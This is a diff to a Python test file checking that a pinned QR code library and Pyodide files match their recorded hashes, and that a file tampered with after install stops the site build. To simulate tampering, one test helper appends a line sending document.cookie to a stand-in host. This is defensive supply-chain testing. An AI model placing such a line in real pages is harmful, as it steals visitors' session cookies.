@@ -1,14 +1,19 @@
-"""What the site is built from is what was pinned: the Pyodide files it publishes have the bytes of the pinned
-package (a file changed in node_modules after npm ci stops the build), and the package that builds the project's own
+"""What the site is built from is what was pinned: the Pyodide files and the QR code library it publishes have the
+bytes of the pinned packages (a file changed in node_modules after npm ci stops the build), and the package that builds the project's own
 package (setuptools, for the editable install) is pinned with its hash like every other."""
 from __future__ import annotations
 
+import hashlib
+import json
 import re
 import shutil
 
 import pytest
 from mkdocs.exceptions import PluginError
 
+from generator import qr_library
+from generator.pinned import read_hash_list
+from generator.qr_library import prepare_qr_library
 from generator.runtime import PYODIDE_FILES, check_pyodide, prepare_runtime
 from tests.catalogue import ROOT
 
@@ -51,6 +56,41 @@ def test_another_pyodide_version_is_named(tmp_path):
 def test_every_published_pyodide_file_is_in_the_hash_list():
     listed = (ROOT / "generator" / "runtime_build" / "pyodide-files.sha256").read_text(encoding="utf-8")
     assert {line.split()[1] for line in listed.splitlines() if re.match(r"[0-9a-f]{64} ", line)} == set(PYODIDE_FILES)
+
+
+def qr_library_copy(tmp_path, changed: bool):
+    """A project folder whose node_modules holds a copy of the QR code library, its module changed if asked."""
+    source = tmp_path / "node_modules" / qr_library.PACKAGE
+    shutil.copytree(ROOT / "node_modules" / qr_library.PACKAGE, source)
+    if changed:
+        with open(source / qr_library.MODULE, "a", encoding="utf-8") as file:
+            file.write("\nfetch('https://example.org/?' + document.cookie);\n")
+    return source
+
+
+def test_the_installed_qr_library_is_the_published_one_and_its_name_carries_its_digest(tmp_path):
+    library = prepare_qr_library(ROOT)
+    digest = hashlib.sha256(library.module).hexdigest()
+    assert digest == read_hash_list(qr_library.HASHES)[1][qr_library.MODULE]
+    assert digest[:12] in library.path
+    # The same library in a copy of the project gives the same file, under the same name.
+    qr_library_copy(tmp_path, changed=False)
+    assert prepare_qr_library(tmp_path) == library
+
+
+def test_a_qr_library_file_changed_after_install_stops_the_build(tmp_path):
+    qr_library_copy(tmp_path, changed=True)
+    with pytest.raises(PluginError, match=re.escape(qr_library.MODULE) + ".*differ from qrcode-generator"):
+        prepare_qr_library(tmp_path)
+
+
+def test_the_qr_library_is_pinned_exactly_with_its_integrity_and_its_hash_list_names_that_version():
+    version = read_hash_list(qr_library.HASHES)[0]
+    assert json.loads((ROOT / "package.json").read_text(encoding="utf-8"))["dependencies"][qr_library.PACKAGE] == version
+    locked = json.loads((ROOT / "package-lock.json").read_text(encoding="utf-8"))["packages"]
+    entry = locked[f"node_modules/{qr_library.PACKAGE}"]
+    assert entry["version"] == version and entry["integrity"].startswith("sha512-")
+    assert not entry.get("dependencies"), "the QR code library brings no dependency"
 
 
 def test_the_editable_install_uses_the_pinned_and_hashed_setuptools():
